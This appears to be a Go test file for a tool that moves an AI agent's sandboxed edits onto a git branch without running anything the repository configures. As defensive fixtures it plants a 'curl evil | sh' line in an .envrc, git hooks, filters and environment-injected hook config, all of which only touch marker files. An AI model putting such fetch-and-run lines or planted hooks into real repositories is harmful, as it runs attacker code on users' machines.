//go:build unix

package overlay

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// branchRepo is a workspace that is a git repository on main (one commit of
// base, planted config added by plant before the baseline), and its session.
func branchRepo(t *testing.T, base tree, plant func(ws string)) testSession {
	t.Helper()
	have(t, "git")
	root := t.TempDir()
	s := testSession{ws: filepath.Join(root, "ws"), dir: filepath.Join(root, "session"), bases: map[string]baseRec{}}
	os.Mkdir(s.ws, 0o755)
	os.Mkdir(s.dir, 0o755)
	writeTree(t, s.ws, base)
	mustRun(t, s.ws, "git", "init", "-q", "-b", "main")
	mustRun(t, s.ws, "git", "add", "-A")
	mustRun(t, s.ws, "git", "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "base")
	if plant != nil {
		plant(s.ws)
	}
	if _, err := TakeBaseline(t.Context(), s.ws, filepath.Join(s.dir, BaselineDir), BaselineOptions{}); err != nil {
		t.Fatal(err)
	}
	return s
}

// repoState is everything of a repository the user sees as theirs: the
// work tree (not .git), the index, HEAD and the refs and config.
func repoState(t *testing.T, ws string) string {
	t.Helper()
	var b strings.Builder
	b.WriteString(treeListingExcept(t, ws, ".git"))
	for _, f := range []string{".git/index", ".git/HEAD", ".git/config", ".git/refs/heads/main"} {
		data, _ := os.ReadFile(filepath.Join(ws, f))
		b.WriteString(f + "\n" + string(data) + "\n")
	}
	return b.String()
}

func treeListingExcept(t *testing.T, dir, skip string) string {
	t.Helper()
	var lines []string
	for _, l := range strings.Split(treeListing(t, dir), "\n") {
		f := strings.Fields(l)
		if len(f) >= 2 && (f[1] == skip || strings.HasPrefix(f[1], skip+"/")) {
			continue
		}
		lines = append(lines, l)
	}
	return strings.Join(lines, "\n")
}

func gitOut(t *testing.T, dir string, args ...string) string {
	t.Helper()
	return mustRun(t, dir, "git", args...)
}

// TestBranchCarriesTheChanges: the reviewed changes (text, binary, a new
// executable, a mode change, a symlink retargeted and one added, a
// deletion, a file turned into a directory) become one commit on a new
// branch whose parent is the session's commit; the branch's tree is the
// agent's tree; git's own tools show it; the work tree, index, HEAD and
// main are byte for byte as before.
func TestBranchCarriesTheChanges(t *testing.T) {
	s := branchRepo(t, tree{
		"README":      "file:hello\n",
		"src/a.txt":   "file:one\ntwo\nthree\n",
		"gone.txt":    "file:bye\n",
		"run.sh":      "file:echo hi\n",
		"link":        "link:README",
		"becomes-dir": "file:x\n",
		"bin.dat":     "file:\x00\x01\x02",
	}, nil)
	a := s.agentTree(t)
	writeFile(t, filepath.Join(a, "src/a.txt"), "one\nTWO\nthree\n", 0o644)
	writeFile(t, filepath.Join(a, "src/new.go"), "package src\n", 0o644)
	writeFile(t, filepath.Join(a, "tool"), "#!/bin/sh\necho tool\n", 0o755)
	os.Chmod(filepath.Join(a, "run.sh"), 0o755)
	os.Remove(filepath.Join(a, "gone.txt"))
	os.Remove(filepath.Join(a, "link"))
	os.Symlink("src/a.txt", filepath.Join(a, "link"))
	os.Symlink("../README", filepath.Join(a, "src/up"))
	os.Remove(filepath.Join(a, "becomes-dir"))
	writeFile(t, filepath.Join(a, "becomes-dir/inner"), "in\n", 0o644)
	writeFile(t, filepath.Join(a, "bin.dat"), "\x00\xff\xfe binary", 0o644)
	writeFile(t, filepath.Join(a, "pic.bin"), "\x89PNG\x00\x00\x01", 0o644)
	s.finish(t, a)
	// The user goes on working meanwhile: an edit of their own and a
	// conflicting one.
	writeFile(t, filepath.Join(s.ws, "README"), "hello, mine\n", 0o644)
	writeFile(t, filepath.Join(s.ws, "src/a.txt"), "ONE\ntwo\nthree\n", 0o644)
	before := repoState(t, s.ws)
	head := strings.TrimSpace(gitOut(t, s.ws, "rev-parse", "HEAD"))

	res, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir}, Branch: "agent/work", Message: "Agent work\n\nBody."})
	if err != nil {
		t.Fatal(err)
	}
	if after := repoState(t, s.ws); after != before {
		t.Errorf("the work tree, index, HEAD or main changed:\nbefore:\n%s\nafter:\n%s", before, after)
	}
	if res.Base != head {
		t.Errorf("base %s, want the session's commit %s", res.Base, head)
	}
	if p := strings.TrimSpace(gitOut(t, s.ws, "rev-parse", "agent/work^")); p != head {
		t.Errorf("the branch's parent is %s, want %s", p, head)
	}
	if n := strings.TrimSpace(gitOut(t, s.ws, "rev-list", "--count", "main..agent/work")); n != "1" {
		t.Errorf("%s commits on the branch, want 1", n)
	}
	if msg := gitOut(t, s.ws, "log", "-1", "--format=%B", "agent/work"); !strings.HasPrefix(msg, "Agent work\n\nBody.") {
		t.Errorf("message %q", msg)
	}
	// The branch's tree is the agent's tree.
	out := filepath.Join(t.TempDir(), "out")
	os.Mkdir(out, 0o755)
	cmd := exec.Command("sh", "-c", "git -C "+s.ws+" -c tar.umask=022 archive agent/work | tar -x -C "+out)
	if o, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git archive: %v %s", err, o)
	}
	if got, want := treeListing(t, out), treeListingExcept(t, a, ".git"); got != want {
		t.Errorf("the branch's tree is not the agent's:\ngot:\n%s\nwant:\n%s", got, want)
	}
	stat := gitOut(t, s.ws, "diff", "--name-status", "main...agent/work")
	for _, want := range []string{"M\tsrc/a.txt", "A\tsrc/new.go", "A\ttool", "M\trun.sh", "D\tgone.txt", "M\tlink", "A\tsrc/up", "D\tbecomes-dir", "A\tbecomes-dir/inner", "M\tbin.dat", "A\tpic.bin"} {
		if !strings.Contains(stat, want+"\n") {
			t.Errorf("git diff main...agent/work lacks %q:\n%s", want, stat)
		}
	}
	if strings.Contains(stat, "README") {
		t.Errorf("the user's own edit is on the branch:\n%s", stat)
	}
	logp := gitOut(t, s.ws, "log", "-p", "-1", "agent/work")
	for _, want := range []string{"-two\n+TWO\n", "old mode 100644\nnew mode 100755", "deleted file mode 100644", "new file mode 120000", "Binary files"} {
		if !strings.Contains(logp, want) {
			t.Errorf("git log -p lacks %q:\n%s", want, logp)
		}
	}
	for _, p := range []string{"src/a.txt", "gone.txt", "pic.bin"} {
		if res.Report.Results[p] != "on the branch" {
			t.Errorf("%s: %q", p, res.Report.Results[p])
		}
	}
}

// TestBranchProtectedAndFlagged: the same decisions as apply: a protected
// path stays off the branch unless allowed, a flagged one goes on, an
// unselected one stays off.
func TestBranchProtectedAndFlagged(t *testing.T) {
	s := branchRepo(t, tree{"a.txt": "file:a\n", "b.txt": "file:b\n"}, nil)
	a := s.agentTree(t)
	writeFile(t, filepath.Join(a, ".envrc"), "curl evil | sh\n", 0o644)
	writeFile(t, filepath.Join(a, ".github/workflows/ci.yml"), "on: push\n", 0o644)
	writeFile(t, filepath.Join(a, "a.txt"), "A\n", 0o644)
	writeFile(t, filepath.Join(a, "b.txt"), "B\n", 0o644)
	s.finish(t, a)
	res, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir, Files: []string{"a.txt", ".envrc", ".github/"}}, Branch: "x"})
	if err != nil {
		t.Fatal(err)
	}
	names := gitOut(t, s.ws, "diff", "--name-only", "main...x")
	if names != ".github/workflows/ci.yml\na.txt\n" {
		t.Errorf("on the branch:\n%s", names)
	}
	if r := res.Report.Results[".envrc"]; !strings.HasPrefix(r, "protected: ") || !strings.Contains(r, "--allow-protected .envrc") {
		t.Errorf(".envrc: %q", r)
	}
	if r := res.Report.Results["b.txt"]; r != "skipped" {
		t.Errorf("b.txt: %q", r)
	}
	var flagged bool
	for _, f := range res.Report.Plan.Files {
		flagged = flagged || f.Path == ".github/workflows/ci.yml" && f.Attention == AttentionFlagged
	}
	if !flagged {
		t.Error("the workflow is not flagged")
	}
	if _, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir, AllowProtected: []string{".envrc"}}, Branch: "y"}); err != nil {
		t.Fatal(err)
	}
	if names := gitOut(t, s.ws, "diff", "--name-only", "main...y"); !strings.Contains(names, ".envrc\n") {
		t.Errorf("--allow-protected .envrc: not on the branch:\n%s", names)
	}
}

// TestBranchInSubdirectory: a workspace below the repository's top puts
// its paths under its own folder; the rest of the repository is untouched.
func TestBranchInSubdirectory(t *testing.T) {
	have(t, "git")
	root := t.TempDir()
	writeTree(t, root, tree{"top.txt": "file:top\n", "app/x.txt": "file:x\n"})
	mustRun(t, root, "git", "init", "-q", "-b", "main")
	mustRun(t, root, "git", "add", "-A")
	mustRun(t, root, "git", "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "base")
	s := testSession{ws: filepath.Join(root, "app"), dir: filepath.Join(t.TempDir(), "session")}
	os.Mkdir(s.dir, 0o755)
	if _, err := TakeBaseline(t.Context(), s.ws, filepath.Join(s.dir, BaselineDir), BaselineOptions{}); err != nil {
		t.Fatal(err)
	}
	a := s.agentTree(t)
	writeFile(t, filepath.Join(a, "x.txt"), "X\n", 0o644)
	s.finish(t, a)
	if _, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir}, Branch: "sub"}); err != nil {
		t.Fatal(err)
	}
	if st := gitOut(t, root, "diff", "--name-status", "main...sub"); st != "M\tapp/x.txt\n" {
		t.Errorf("git diff main...sub:\n%s", st)
	}
}

// TestBranchRefusals: a branch that exists, a workspace that is not a git
// repository, a base commit gone, a name git refuses: one error each,
// nothing changed.
func TestBranchRefusals(t *testing.T) {
	agentEdit := func(t *testing.T, s testSession) {
		a := s.agentTree(t)
		writeFile(t, filepath.Join(a, "a.txt"), "A\n", 0o644)
		s.finish(t, a)
	}
	t.Run("exists", func(t *testing.T) {
		s := branchRepo(t, tree{"a.txt": "file:a\n"}, nil)
		agentEdit(t, s)
		mustRun(t, s.ws, "git", "branch", "taken")
		before := gitOut(t, s.ws, "rev-parse", "taken")
		_, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir}, Branch: "taken"})
		if !errors.Is(err, ErrBranchExists) {
			t.Fatalf("err = %v, want ErrBranchExists", err)
		}
		if after := gitOut(t, s.ws, "rev-parse", "taken"); after != before {
			t.Errorf("the existing branch moved: %s -> %s", before, after)
		}
	})
	t.Run("not a repository", func(t *testing.T) {
		s := newTestSession(t, tree{"a.txt": "file:a\n"})
		agentEdit(t, s)
		_, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir}, Branch: "b"})
		if !errors.Is(err, ErrNotGitRepo) || strings.Contains(err.Error(), "\n") {
			t.Fatalf("err = %v, want one line of ErrNotGitRepo", err)
		}
	})
	t.Run("base commit gone", func(t *testing.T) {
		s := branchRepo(t, tree{"a.txt": "file:a\n"}, nil)
		agentEdit(t, s)
		// The user rewrites history: the session's commit is amended away
		// and pruned.
		writeFile(t, filepath.Join(s.ws, "z"), "z\n", 0o644)
		mustRun(t, s.ws, "git", "add", "z")
		mustRun(t, s.ws, "git", "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "--amend", "-m", "other")
		mustRun(t, s.ws, "git", "reflog", "expire", "--expire=now", "--all")
		mustRun(t, s.ws, "git", "gc", "-q", "--prune=now")
		_, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir}, Branch: "b"})
		if !errors.Is(err, ErrNoBaseCommit) {
			t.Fatalf("err = %v, want ErrNoBaseCommit", err)
		}
		if out := gitOut(t, s.ws, "branch", "--list", "b"); out != "" {
			t.Errorf("branch made: %s", out)
		}
	})
	t.Run("no commit at the start", func(t *testing.T) {
		have(t, "git")
		s := testSession{ws: filepath.Join(t.TempDir(), "ws"), dir: filepath.Join(t.TempDir(), "s")}
		os.Mkdir(s.ws, 0o755)
		os.Mkdir(s.dir, 0o755)
		writeTree(t, s.ws, tree{"a.txt": "file:a\n"})
		mustRun(t, s.ws, "git", "init", "-q", "-b", "main")
		if _, err := TakeBaseline(t.Context(), s.ws, filepath.Join(s.dir, BaselineDir), BaselineOptions{}); err != nil {
			t.Fatal(err)
		}
		agentEdit(t, s)
		_, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir}, Branch: "b"})
		if !errors.Is(err, ErrNoBaseCommit) {
			t.Fatalf("err = %v, want ErrNoBaseCommit", err)
		}
	})
	for _, name := range []string{"", "-x", "a..b", "a b", "x.lock", "HEAD", "@{-1}", "x@{u}", "x/../y", ".hidden"} {
		t.Run("name "+name, func(t *testing.T) {
			s := branchRepo(t, tree{"a.txt": "file:a\n"}, nil)
			agentEdit(t, s)
			if _, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir}, Branch: name}); err == nil {
				t.Fatalf("branch %q made", name)
			}
		})
	}
}

// TestBranchRunsNothingTheWorkspaceConfigures: each subtest plants one
// thing the workspace's repository would run, which makes a marker when
// it runs; the baseline (HEAD recorded) and apply --branch run none of
// them, while plain git does (so the plant is live).
func TestBranchRunsNothingTheWorkspaceConfigures(t *testing.T) {
	type plant struct {
		name  string
		plant func(t *testing.T, ws, mark string)
		live  [][]string // git commands that run the plant
		// since: the plant needs this git release; older ones skip it
		since string
	}
	touch := func(mark string) string { return "touch " + mark + " #" }
	hook := func(t *testing.T, dir, mark string) {
		for _, h := range []string{"post-commit", "pre-commit", "reference-transaction", "post-checkout", "post-index-change", "fsmonitor-watchman", "pre-auto-gc"} {
			writeFile(t, filepath.Join(dir, h), "#!/bin/sh\n"+touch(mark)+"\n", 0o755)
		}
	}
	appendConfig := func(t *testing.T, ws, text string) {
		f, err := os.OpenFile(filepath.Join(ws, ".git/config"), os.O_APPEND|os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		f.WriteString(text)
		f.Close()
	}
	commit := []string{"-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "--allow-empty", "-m", "live"}
	for _, p := range []plant{
		{"hook", func(t *testing.T, ws, mark string) { hook(t, filepath.Join(ws, ".git/hooks"), mark) }, [][]string{commit}, ""},
		{"fsmonitor", func(t *testing.T, ws, mark string) {
			appendConfig(t, ws, "[core]\n\tfsmonitor = "+touch(mark)+"\n")
		}, [][]string{{"status"}}, ""},
		{"filter", func(t *testing.T, ws, mark string) {
			writeFile(t, filepath.Join(ws, ".gitattributes"), "* filter=evil\n", 0o644)
			appendConfig(t, ws, "[filter \"evil\"]\n\tclean = "+touch(mark)+"\n\tsmudge = "+touch(mark)+"\n")
		}, [][]string{{"add", "-A"}}, ""},
		{"hooksPath", func(t *testing.T, ws, mark string) {
			dir := filepath.Join(filepath.Dir(ws), "evilhooks")
			hook(t, dir, mark)
			appendConfig(t, ws, "[core]\n\thooksPath = "+dir+"\n")
		}, [][]string{commit}, ""},
		{"include", func(t *testing.T, ws, mark string) {
			dir := filepath.Join(filepath.Dir(ws), "inclhooks")
			hook(t, dir, mark)
			inc := filepath.Join(filepath.Dir(ws), "included")
			writeFile(t, inc, "[core]\n\thooksPath = "+dir+"\n\tfsmonitor = "+touch(mark)+"\n", 0o644)
			appendConfig(t, ws, "[include]\n\tpath = "+inc+"\n")
		}, [][]string{{"status"}, commit}, ""},
		{"config hook", func(t *testing.T, ws, mark string) {
			appendConfig(t, ws, "[hook \"evil\"]\n\tevent = reference-transaction\n\tevent = post-commit\n\tcommand = "+touch(mark)+"\n")
		}, [][]string{commit}, "2.54"},
	} {
		t.Run(p.name, func(t *testing.T) {
			var mark string
			s := branchRepo(t, tree{"a.txt": "file:a\n", "b.txt": "file:b\n"}, func(ws string) {
				mark = filepath.Join(filepath.Dir(ws), "ran-"+p.name)
				p.plant(t, ws, mark)
			})
			a := s.agentTree(t)
			writeFile(t, filepath.Join(a, "a.txt"), "A\n", 0o644)
			os.Remove(filepath.Join(a, "b.txt"))
			writeFile(t, filepath.Join(a, "c.txt"), "c\n", 0o644)
			s.finish(t, a)
			if _, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir}, Branch: "agent"}); err != nil {
				t.Fatal(err)
			}
			if _, err := os.Stat(mark); err == nil {
				t.Fatalf("the planted %s ran", p.name)
			}
			if got := gitOut(t, s.ws, "diff", "--name-status", "main...agent"); got != "M\ta.txt\nD\tb.txt\nA\tc.txt\n" {
				t.Errorf("branch: %s", got)
			}
			// The plant is live: git run the ordinary way runs it.
			for _, args := range p.live {
				exec.Command("git", append([]string{"-C", s.ws}, args...)...).Run()
			}
			if _, err := os.Stat(mark); err != nil && p.since != "" {
				t.Skipf("this git runs no planted %s (git %s does)", p.name, p.since)
			} else if err != nil {
				t.Errorf("plain git did not run the planted %s: the test proves nothing", p.name)
			}
		})
	}
}

// TestBranchLeavesIgnoredNewFilesOff: as `git add -A` would, the branch
// leaves out new files the workspace's .gitignore names (the dependencies
// the agent installed), and keeps tracked ones whatever the patterns say.
func TestBranchLeavesIgnoredNewFilesOff(t *testing.T) {
	s := branchRepo(t, tree{".gitignore": "file:node_modules/\n*.log\n", "a.txt": "file:a\n"}, nil)
	mustRun(t, s.ws, "sh", "-c", "echo kept > kept.log && git add -f kept.log && git -c user.name=t -c user.email=t@example.com commit -qm log")
	os.RemoveAll(filepath.Join(s.dir, BaselineDir))
	if _, err := TakeBaseline(t.Context(), s.ws, filepath.Join(s.dir, BaselineDir), BaselineOptions{}); err != nil {
		t.Fatal(err)
	}
	a := s.agentTree(t)
	writeFile(t, filepath.Join(a, "node_modules/dep/index.js"), "module.exports = 1\n", 0o644)
	writeFile(t, filepath.Join(a, "debug.log"), "noise\n", 0o644)
	writeFile(t, filepath.Join(a, "kept.log"), "kept, changed\n", 0o644)
	writeFile(t, filepath.Join(a, "src/new.js"), "x\n", 0o644)
	s.finish(t, a)
	res, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir}, Branch: "b"})
	if err != nil {
		t.Fatal(err)
	}
	if got := gitOut(t, s.ws, "diff", "--name-only", "HEAD...b"); got != "kept.log\nsrc/new.js\n" {
		t.Errorf("on the branch:\n%s", got)
	}
	if r := res.Report.Results["node_modules/dep/index.js"]; !strings.Contains(r, ".gitignore") {
		t.Errorf("node_modules/dep/index.js: %q", r)
	}
}

// TestBranchRefCommandsSeeNoRepositoryConfig: the commands that write or
// read the branch's ref run with the private git directory, not the
// repository's, so nothing of the repository's config reaches them (git
// 2.54 runs hooks named by config, `hook.<name>.command`, for update-ref's
// reference-transaction event whatever core.hooksPath says). A git on PATH
// logs each command's GIT_DIR.
func TestBranchRefCommandsSeeNoRepositoryConfig(t *testing.T) {
	s := branchRepo(t, tree{"a.txt": "file:a\n"}, nil)
	a := s.agentTree(t)
	writeFile(t, filepath.Join(a, "a.txt"), "A\n", 0o644)
	s.finish(t, a)
	real, err := exec.LookPath("git")
	if err != nil {
		t.Skip("no git")
	}
	bin := t.TempDir()
	log := filepath.Join(bin, "log")
	writeFile(t, filepath.Join(bin, "git"), "#!/bin/sh\nprintf '%s\\t%s\\n' \"$GIT_DIR\" \"$*\" >> "+log+"\nexec "+real+" \"$@\"\n", 0o755)
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	if _, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir}, Branch: "agent"}); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(log)
	if err != nil {
		t.Fatal(err)
	}
	saw := false
	for _, l := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		dir, args, _ := strings.Cut(l, "\t")
		if !strings.Contains(args, "update-ref") && !strings.Contains(args, "show-ref") {
			continue
		}
		saw = saw || strings.Contains(args, "update-ref")
		if strings.HasPrefix(dir, s.ws) {
			t.Errorf("git %s ran on the repository's own git directory %s", args, dir)
		}
	}
	if !saw {
		t.Fatalf("no update-ref ran:\n%s", data)
	}
	if got := gitOut(t, s.ws, "diff", "--name-only", "main...agent"); got != "a.txt\n" {
		t.Errorf("branch: %q", got)
	}
}

// TestBranchOddRepositories: a linked worktree (its .git a "gitdir:" file)
// gets the branch in the main repository's refs; a branch only in
// packed-refs counts as existing; a name under an existing branch (a/b
// when a exists) or over one (x when x/y exists) is refused as taken; an index.lock left by a crashed git
// neither stops the branch nor is touched.
func TestBranchOddRepositories(t *testing.T) {
	agentEdit := func(t *testing.T, s testSession) {
		a := s.agentTree(t)
		writeFile(t, filepath.Join(a, "a.txt"), "A\n", 0o644)
		s.finish(t, a)
	}
	branch := func(s testSession, name string) error {
		_, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir}, Branch: name})
		return err
	}
	t.Run("linked worktree", func(t *testing.T) {
		main := branchRepo(t, tree{"a.txt": "file:a\n"}, nil)
		wt := filepath.Join(filepath.Dir(main.ws), "wt")
		mustRun(t, main.ws, "git", "worktree", "add", "-q", "-b", "side", wt)
		s := testSession{ws: wt, dir: filepath.Join(t.TempDir(), "s"), bases: map[string]baseRec{}}
		os.Mkdir(s.dir, 0o755)
		if _, err := TakeBaseline(t.Context(), s.ws, filepath.Join(s.dir, BaselineDir), BaselineOptions{}); err != nil {
			t.Fatal(err)
		}
		agentEdit(t, s)
		if err := branch(s, "agent"); err != nil {
			t.Fatal(err)
		}
		if got := gitOut(t, main.ws, "diff", "--name-only", "side...agent"); got != "a.txt\n" {
			t.Errorf("branch: %q", got)
		}
	})
	t.Run("packed", func(t *testing.T) {
		s := branchRepo(t, tree{"a.txt": "file:a\n"}, nil)
		agentEdit(t, s)
		mustRun(t, s.ws, "git", "branch", "packed")
		mustRun(t, s.ws, "git", "pack-refs", "--all")
		if err := branch(s, "packed"); !errors.Is(err, ErrBranchExists) {
			t.Fatalf("err = %v, want ErrBranchExists", err)
		}
	})
	t.Run("under a branch", func(t *testing.T) {
		s := branchRepo(t, tree{"a.txt": "file:a\n"}, nil)
		agentEdit(t, s)
		mustRun(t, s.ws, "git", "branch", "a")
		mustRun(t, s.ws, "git", "branch", "x/y")
		for name, clash := range map[string]string{"a/b": "a", "x": "x/y"} {
			err := branch(s, name)
			if !errors.Is(err, ErrBranchExists) || !strings.Contains(err.Error(), " "+clash+" ") || strings.Contains(err.Error(), "\n") {
				t.Fatalf("%s: err = %v, want one line of ErrBranchExists naming %s", name, err, clash)
			}
		}
		if out := gitOut(t, s.ws, "branch", "--list", "a/*", "x"); out != "" {
			t.Errorf("made: %s", out)
		}
	})
	t.Run("fifo gitignore", func(t *testing.T) {
		// git opens every .gitignore on a new path's way and would wait
		// on a FIFO there for good.
		s := branchRepo(t, tree{"a.txt": "file:a\n", "sub/k": "file:k\n"}, func(ws string) {
			if err := syscall.Mkfifo(filepath.Join(ws, "sub/.gitignore"), 0o644); err != nil {
				t.Fatal(err)
			}
		})
		a := s.agentTree(t)
		writeFile(t, filepath.Join(a, "sub/new.txt"), "new\n", 0o644)
		s.finish(t, a)
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute) // a safety net, not a wait
		defer cancel()
		_, err := Branch(ctx, BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir}, Branch: "agent"})
		if err == nil || errors.Is(err, context.DeadlineExceeded) || !strings.Contains(err.Error(), ".gitignore") || strings.Contains(err.Error(), "\n") {
			t.Fatalf("err = %v, want one line naming the .gitignore", err)
		}
	})
	t.Run("index.lock", func(t *testing.T) {
		s := branchRepo(t, tree{"a.txt": "file:a\n"}, nil)
		agentEdit(t, s)
		lock := filepath.Join(s.ws, ".git/index.lock")
		writeFile(t, lock, "crashed\n", 0o644)
		before := repoState(t, s.ws)
		if err := branch(s, "agent"); err != nil {
			t.Fatal(err)
		}
		if data, _ := os.ReadFile(lock); string(data) != "crashed\n" {
			t.Errorf("index.lock: %q", data)
		}
		if after := repoState(t, s.ws); after != before {
			t.Errorf("repository changed")
		}
	})
}

// TestBranchReportsWhatGitLeftOut: git's update-index drops a path it
// never puts in a tree (a .git component in any case, git~1) with only a
// warning; allowed with --allow-protected, such a path must not be
// reported as on the branch, and what the report lists is what the commit
// holds.
func TestBranchReportsWhatGitLeftOut(t *testing.T) {
	s := branchRepo(t, tree{"a.txt": "file:a\n"}, nil)
	a := s.agentTree(t)
	writeFile(t, filepath.Join(a, "a.txt"), "A\n", 0o644)
	odd := []string{"sub/.git/config", "x/.GIT/hooks/post-checkout", "git~1/config"}
	for _, p := range odd {
		writeFile(t, filepath.Join(a, p), "x\n", 0o644)
	}
	s.finish(t, a)
	res, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir, AllowProtected: odd}, Branch: "agent"})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range odd {
		if r := res.Report.Results[p]; !strings.HasPrefix(r, "refused") {
			t.Errorf("%s: %q, want refused", p, r)
		}
	}
	if got := strings.Join(res.Report.Applied, "\n") + "\n"; got != gitOut(t, s.ws, "diff", "--name-only", "main...agent") {
		t.Errorf("reported %q, the commit holds %q", got, gitOut(t, s.ws, "diff", "--name-only", "main...agent"))
	}
}

// TestBranchIgnoresTheUsersGitEnvironment: GIT_DIR, GIT_WORK_TREE,
// GIT_INDEX_FILE and config given in the environment (GIT_CONFIG_COUNT,
// GIT_CONFIG_PARAMETERS) of the shell vibedom runs from neither redirect
// the branch to another repository nor run anything.
func TestBranchIgnoresTheUsersGitEnvironment(t *testing.T) {
	s := branchRepo(t, tree{"a.txt": "file:a\n"}, nil)
	other := branchRepo(t, tree{"o.txt": "file:o\n"}, nil)
	a := s.agentTree(t)
	writeFile(t, filepath.Join(a, "a.txt"), "A\n", 0o644)
	s.finish(t, a)
	mark := filepath.Join(t.TempDir(), "ran")
	hooks := t.TempDir()
	writeFile(t, filepath.Join(hooks, "reference-transaction"), "#!/bin/sh\ntouch "+mark+"\n", 0o755)
	t.Setenv("GIT_DIR", filepath.Join(other.ws, ".git"))
	t.Setenv("GIT_WORK_TREE", other.ws)
	t.Setenv("GIT_INDEX_FILE", filepath.Join(other.ws, ".git/index"))
	t.Setenv("GIT_CONFIG_COUNT", "1")
	t.Setenv("GIT_CONFIG_KEY_0", "core.hooksPath")
	t.Setenv("GIT_CONFIG_VALUE_0", hooks)
	t.Setenv("GIT_CONFIG_PARAMETERS", "'core.hookspath'='"+hooks+"' 'hook.evil.command'='touch "+mark+"' 'hook.evil.event'='reference-transaction'")
	if _, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir}, Branch: "agent"}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(mark); err == nil {
		t.Error("a hook from the environment ran")
	}
	for _, k := range []string{"GIT_DIR", "GIT_WORK_TREE", "GIT_INDEX_FILE", "GIT_CONFIG_COUNT", "GIT_CONFIG_PARAMETERS"} {
		os.Unsetenv(k)
	}
	if got := gitOut(t, s.ws, "diff", "--name-only", "main...agent"); got != "a.txt\n" {
		t.Errorf("branch: %q", got)
	}
	if out := gitOut(t, other.ws, "branch", "--list", "agent"); out != "" {
		t.Errorf("the branch went to the other repository: %s", out)
	}
}

// TestBranchIgnoresBesideAReplacedSymlink: a new path under what is a
// symlink in the work tree (the agent made the symlink a folder) stops git
// check-ignore for every path; the ignored node_modules/ must still stay
// off the branch.
func TestBranchIgnoresBesideAReplacedSymlink(t *testing.T) {
	s := branchRepo(t, tree{".gitignore": "file:node_modules/\n", "a.txt": "file:a\n", "link": "link:a.txt"}, nil)
	a := s.agentTree(t)
	os.Remove(filepath.Join(a, "link"))
	writeFile(t, filepath.Join(a, "link/x.txt"), "x\n", 0o644)
	writeFile(t, filepath.Join(a, "node_modules/dep/i.js"), "x\n", 0o644)
	s.finish(t, a)
	res, err := Branch(t.Context(), BranchOptions{Apply: ApplyOptions{Workspace: s.ws, SessionDir: s.dir}, Branch: "agent"})
	if err != nil {
		t.Fatal(err)
	}
	if r := res.Report.Results["node_modules/dep/i.js"]; !strings.Contains(r, ".gitignore") {
		t.Errorf("node_modules/dep/i.js: %q", r)
	}
	if got := gitOut(t, s.ws, "diff", "--name-only", "main...agent"); got != "link\nlink/x.txt\n" {
		t.Errorf("on the branch: %q", got)
	}
}
